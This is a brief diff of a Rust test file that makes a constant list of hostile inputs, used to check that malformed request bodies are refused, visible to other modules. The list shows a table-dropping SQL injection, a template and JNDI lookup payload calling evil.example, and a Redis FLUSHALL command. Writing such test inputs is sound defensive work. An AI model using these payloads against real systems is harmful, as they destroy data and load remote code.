@@ -60,7 +60,7 @@ async fn malformed_bodies_are_refused_with_a_reason() {
 }
 
 /// Texts that mean something to somebody further in.
-const HOSTILE: [&str; 8] = [
+pub(super) const HOSTILE: [&str; 8] = [
     "'; drop table regimen.jobs; --",
     "{{7*7}} ${jndi:ldap://evil.example/a}",
     "redis.call('FLUSHALL') return 1",
